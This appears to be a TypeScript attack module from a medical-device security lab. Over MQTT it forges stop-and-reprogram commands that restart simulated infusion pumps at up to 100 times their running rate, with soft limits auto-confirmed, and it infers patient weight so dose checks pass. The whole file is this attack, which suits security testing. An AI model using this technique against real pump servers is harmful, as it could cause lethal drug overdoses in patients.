import { z } from 'zod';
import {
  commandResultSchema,
  type Infusion,
  type StatusMessage,
} from '../../simulators/contract/pump-messages.ts';
import { commandSchema, type Command } from '../../simulators/contract/server-commands.ts';
import { pumpTopic } from '../../simulators/contract/topics.ts';
import { fromMlPerHour } from '../../simulators/pump/dose-calculator.ts';
import type { Action, AttackContext, ClientEvidence } from './action.ts';
import { connectMqtt, type MqttSession } from './clients/mqtt-session.ts';
import { connackCode, connectionChannel, evidence, evidenceCodes, report, statusOf } from './evidence.ts';
import { mqttIdentity, mqttIdentitySchema } from './mqtt-identities.ts';
import { retainedStatuses } from './retained-statuses.ts';
import { addressOf, drugEntry, endpointFor, fabricatedId, knownSerials, roundRate } from './targets.ts';

const params = z.strictObject({
  identity: mqttIdentitySchema,
  /** The running rate is multiplied by this. */
  rateFactor: z.number().positive().max(100),
  targets: z.enum(['one', 'all']),
});

/** Real milliseconds to wait for the pumps' command results after the last PUBACK. */
const resultWaitMs = 3_000;

/**
 * Reprograms running infusions over the broker, as a rogue pump server would (CVE-2021-33882,
 * CVE-2020-12040 pattern): learns serials and infusions from the retained statuses, then, on each
 * target's command topic, a contract `stop` and a `program` of the same infusion at `rateFactor`
 * times its rate, auto-started with the soft limits "confirmed". A pump never reprograms a running
 * infusion (delivery.ts, PUMP_BUSY), hence the stop. Done when the broker acknowledged a command.
 */
export const mqttCommand: Action<typeof params> = {
  name: 'mqtt-command',
  summary: 'Publishes contract commands that restart running infusions at a multiplied rate.',
  params,
  async run(context, { identity, rateFactor, targets }) {
    const reached = endpointFor(context, 'mqtt');
    if (!reached.ok) return report('blocked', 'The broker is out of reach.', [reached.evidence]);
    const who = mqttIdentity(context, identity, knownSerials(context)[0]);
    if (!who.ok) return report('blocked', 'No identity to connect with.', [who.evidence]);
    const where = addressOf(reached.endpoint);
    const connected = await connectMqtt(reached.endpoint, context.attacker.address, who.identity);
    if (!connected.ok) {
      const item = evidence(connectionChannel(connected.code), connected.code, connected.line, where);
      return report('blocked', 'The broker refused the connection.', [item]);
    }
    const { session } = connected;
    const items: ClientEvidence[] = [evidence('mqtt', connackCode(0), 'connected', where)];
    try {
      const learned = await retainedStatuses(session);
      if (!learned.ok) {
        items.push(evidence('mqtt', learned.code, `status subscription: ${learned.line}`, where));
        return report('blocked', 'The broker would not show the pumps’ status.', items);
      }
      context.loot.data.push(...learned.payloads);
      const running = learned.statuses.filter((status) => status.state === 'infusing' && status.infusion);
      const chosen = targets === 'one' ? running.slice(0, 1) : running;
      if (chosen.length === 0) {
        items.push(
          evidence('mqtt', evidenceCodes.notInfusing, `${learned.statuses.length} pump(s), none infusing`),
        );
        return report('blocked', 'No infusing pump to reprogram.', items);
      }
      const acked = await command(context, session, chosen, rateFactor, items);
      const summary = `The broker acknowledged ${acked} command(s) to ${chosen.length} infusing pump(s).`;
      return report(statusOf(acked > 0), summary, items);
    } finally {
      await session.close();
    }
  },
};

/** Publishes stop + program to each pump; returns how many the broker acknowledged. */
async function command(
  context: AttackContext,
  session: MqttSession,
  pumps: StatusMessage[],
  factor: number,
  items: ClientEvidence[],
): Promise<number> {
  const sent = new Map<string, string>();
  let answered = 0;
  session.onMessage((_topic, payload) => {
    const result = commandResultSchema.safeParse(safeJson(payload.toString('utf8')));
    const about = result.success ? sent.get(result.data.commandId) : undefined;
    if (!result.success || !about) return;
    answered += 1;
    const code =
      result.data.outcome === 'accepted' ? evidenceCodes.accepted : (result.data.reason ?? 'REJECTED');
    items.push(evidence('mqtt', code, `pump answered ${about}`, result.data.serial));
  });
  let acked = 0;
  for (const pump of pumps) {
    // Best effort: without authorization anyone may read the results; with it, this is refused.
    await session.subscribe(pumpTopic(pump.serial, 'command-results'));
    for (const order of commandsFor(pump, factor, context.lab.now())) {
      sent.set(order.commandId, `${order.kind} ×${factor}`);
      const published = await session.publish(pumpTopic(pump.serial, 'commands'), JSON.stringify(order));
      if (published.ok) acked += 1;
      items.push(
        published.ok
          ? evidence('mqtt', evidenceCodes.puback, `${order.kind} acknowledged`, pump.serial)
          : evidence('mqtt', published.code, `${order.kind}: ${published.line}`, pump.serial),
      );
      if (!published.ok) return acked;
    }
  }
  const deadline = Date.now() + resultWaitMs;
  while (acked > 0 && answered < acked && Date.now() < deadline && session.connected) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return acked;
}

/** The contract commands that restart `pump`'s infusion at `factor` times its rate. */
function commandsFor(pump: StatusMessage, factor: number, now: number): Command[] {
  const infusion = pump.infusion;
  if (!infusion) return [];
  const issuedAt = new Date(now).toISOString();
  const remaining = Math.max(1, Math.round((infusion.vtbi - infusion.volumeInfused) * 10) / 10);
  return [
    commandSchema.parse({ kind: 'stop', commandId: fabricatedId('svc-'), issuedAt }),
    commandSchema.parse({
      kind: 'program',
      commandId: fabricatedId('svc-'),
      issuedAt,
      order: {
        infusionId: infusion.infusionId,
        ...(infusion.patientId === undefined ? {} : { patientId: infusion.patientId }),
        drugId: infusion.drugId,
        rate: roundRate(infusion.rate * factor),
        ...weightOf(infusion),
        vtbi: remaining,
        confirmSoftLimit: true,
        autoStart: true,
      },
    }),
  ];
}

/**
 * The patient weight a weight-based infusion implies (its rate and dose rate at the library's
 * concentration): a pump needs it to check a weight-based dose, and the status does not carry it.
 */
function weightOf(infusion: Infusion): { weightKg?: number } {
  const dose = infusion.doseRate;
  const drug = drugEntry(infusion.drugId);
  if (!dose || !dose.unit.includes('/kg/') || dose.value <= 0 || !drug) return {};
  const perKilogram = fromMlPerHour(infusion.rate, dose.unit, drug.entry.concentration, 1);
  const weightKg = Math.round((perKilogram / dose.value) * 10) / 10;
  return weightKg > 0 && weightKg <= 500 ? { weightKg } : {};
}

function safeJson(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return undefined;
  }
}
